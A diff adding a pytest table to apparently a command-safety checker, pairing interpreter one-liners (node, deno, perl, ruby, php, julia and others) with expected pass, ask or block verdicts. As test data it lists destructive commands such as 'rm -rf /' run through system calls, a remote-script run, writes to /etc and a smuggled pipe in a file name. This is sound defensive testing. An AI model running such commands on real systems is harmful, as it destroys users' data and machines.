@@ -63,3 +63,62 @@ def verdict(command: str) -> str:
 @pytest.mark.parametrize(("command", "expected"), PYTHON)
 def test_python_code_is_read_wherever_it_stands(command: str, expected: str) -> None:
     assert verdict(command) == expected
+
+
+SCRIPTS: Final = [
+    ("node -e \"console.log(require('./package.json').version)\"", "pass"),
+    ('node -p "process.version"', "pass"),
+    ("node --eval=1", "pass"),
+    ("node --print '1 + 1'", "pass"),
+    ("node -e \"require('child_process').execSync('rm -rf ~')\"", "block"),
+    ("node -e \"require('fs').writeFileSync('out.json', '{}')\"", "pass"),
+    ("node -e \"require('fs').writeFileSync('/etc/x', '{}')\"", "ask"),
+    ("node - <<'X'\nconst a = `${require('child_process').execSync('sudo ls')}`\nX", "ask"),
+    ("echo 'process.kill(1)' > x.js; node x.js", "ask"),
+    ("echo 'process.kill(1)' > x.js; node -e \"require('./x')\"", "ask"),
+    ("node -r ./setup.js x.js", "pass"),
+    ("node -r dotenv/config x.js", "pass"),
+    ("node -r /tmp/x.js y.js", "ask"),
+    ("node -c x.js", "pass"),
+    ('deno eval "console.log(1)"', "pass"),
+    ('deno eval "Deno.removeSync(x)"', "ask"),
+    ("deno eval --help", "pass"),
+    ("deno run x.ts a", "pass"),
+    ("deno run npm:cowsay", "ask"),
+    ("deno run https://example.com/x.ts", "block"),
+    ("deno fmt", "pass"),
+    ("bun -e 'console.log(1)'", "pass"),
+    ('bun -e \'Bun.spawn(["sudo", "ls"])\'', "ask"),
+    ("bun x.ts", "pass"),
+    ("bun", "pass"),
+    ("perl -ne 'print if /a/' a.txt", "pass"),
+    ("perl -lane 'print $F[0]' a.txt", "pass"),
+    ("perl -lne 'system(\"rm -rf /\")' a.txt", "block"),
+    ("perl -CSDne 'system(\"rm -rf /\")' a.txt", "block"),
+    ("perl -i.bak -pe 's/a/b/' a.txt", "pass"),
+    ("perl -i -pe 's/a/b/' /etc/hosts", "ask"),
+    ("perl -MJSON -e 'print 1'", "pass"),
+    ("perl -MIPC::Open3 -e 'print 1'", "ask"),
+    ("perl -ne 'print' 'id|'", "ask"),
+    ("perl -v", "pass"),
+    ("ruby -ne 'puts $_' a.txt", "pass"),
+    ("ruby -W0 -rjson -e 'puts 1'", "pass"),
+    ("ruby -e 'FileUtils.rm_rf(\"/\")'", "block"),
+    ("ruby -v", "pass"),
+    ("ruby -v /tmp/x.rb", "ask"),
+    ("ruby -c x.rb", "pass"),
+    ("php -r 'echo PHP_VERSION;'", "pass"),
+    ("php -r 'system(\"rm -rf /\");'", "block"),
+    ("php -d a=b x.php", "ask"),
+    ("lua -e 'os.execute(\"sudo ls\")'", "ask"),
+    ("Rscript -e 'print(1)'", "pass"),
+    ("Rscript -e 'install.packages(\"x\")'", "ask"),
+    ("julia -e 'println(1)'", "pass"),
+    ("julia -e 'run(`rm -rf /`)'", "block"),
+    ("groovy -e 'println 1'", "ask"),
+]
+
+
+@pytest.mark.parametrize(("command", "expected"), SCRIPTS)
+def test_scripts_are_read_wherever_they_stand(command: str, expected: str) -> None:
+    assert verdict(command) == expected
